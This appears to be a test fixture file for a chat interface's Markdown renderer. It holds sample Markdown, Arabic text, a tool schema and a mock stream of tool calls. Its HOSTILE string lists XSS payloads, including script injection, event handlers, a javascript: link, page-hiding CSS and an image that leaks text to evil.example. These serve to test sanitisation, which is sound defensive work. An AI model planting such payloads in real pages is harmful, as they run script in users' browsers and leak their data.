// Words for the suite: Markdown of every kind, what would do harm, what is written from the right, and calls.

export const MARKDOWN = `## A herd of llamas

A **herd** is a group that moves *together*. Three things keep it so:

1. each llama watches its ~~two~~ nearest neighbours,
2. the path is the one that costs least, as in \`argmin\`,
3. somebody goes first.
   - then the rest
   - then the one that was eating

> Alone we go fast; together we carry more.

\`\`\`rust
fn main() {
    // How far does a herd walk in a day?
    let steps: u32 = (1..=24).map(|hour| hour * 100).sum();
    println!("{steps} steps, {:.1} km", steps as f64 * 0.7e-3);
}
\`\`\`

| animal | speed (km/h) | carries (kg) |
|---|---:|---:|
| llama | 56 | 34 |
| donkey | 50 | 57 |
| camel | 65 | 200 |

See [the paper](https://arxiv.example/abs/2407.21783) for more.`;

export const HOSTILE = `<script>globalThis.harmed = 1</script>
<img src="x" onerror="globalThis.harmed = 1">

![stolen](http://evil.example/?words)

[go](javascript:globalThis.harmed=1) <a href="#/chat/1" onclick="globalThis.harmed = 1">here</a>

<iframe src="http://evil.example"></iframe><style>* { display: none }</style>
<form action="/"><input id="words" name="x"><button>Send</button></form>
<svg><script>globalThis.harmed = 1</script><use href="http://evil.example/x.svg#x"/></svg>
<div style="position: fixed; inset: 0" id="main" class="toast">over all</div>

\`\`\`"><img src=x onerror="globalThis.harmed=1">
code
\`\`\``;

export const ARABIC = `أنا بخير، شكرًا لك! هذه **قائمة** قصيرة:

1. القطيع يمشي معًا،
2. ثم يستريح في الظل.

\`\`\`python
print("مرحبا")
\`\`\`

يمكنك أن تسأل عن *أي شيء*.`;

export const TOOLS = [{ type: "function", function: { name: "weather", parameters: { type: "object", properties: { city: { enum: ["Lima", "Cusco"] } }, required: ["city"], additionalProperties: false } } }];

/** An answer with calls, as a clever model and its tools would give it. */
export const CALLS = [
  { type: "begin", user: 9001, answer: 9002 },
  { type: "text", text: "I need the distance first, then the length of a marathon." },
  { type: "call", id: "a", name: "brave_search", arguments: { query: "mean distance from the earth to the moon" } },
  { type: "call", id: "b", name: "code_interpreter", arguments: { code: "distance = 384_400\nprint(round(distance / 42.195))" } },
  { type: "result", id: "a", ok: false, text: "the index holds no page on the moon", files: [], seconds: 0.04 },
  { type: "result", id: "b", ok: true, text: "9110", files: [{ name: "distance.csv", bytes: 42, url: "/ui/icon.svg" }], seconds: 1.31 },
  { type: "call", id: "c", name: "calculator", arguments: { expression: "384400 / 42.195" } },
  { type: "result", id: "c", ok: true, text: "9110.0841", files: [], seconds: 0.002 },
  { type: "text", text: "It is **9,110 marathons** to the moon, at its mean distance of 384,400 km." },
  { type: "end", reason: "stop", usage: { prompt_tokens: 412, completion_tokens: 96 } },
];

/** Events as a server sends them. */
export const stream = (events) => events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join("");
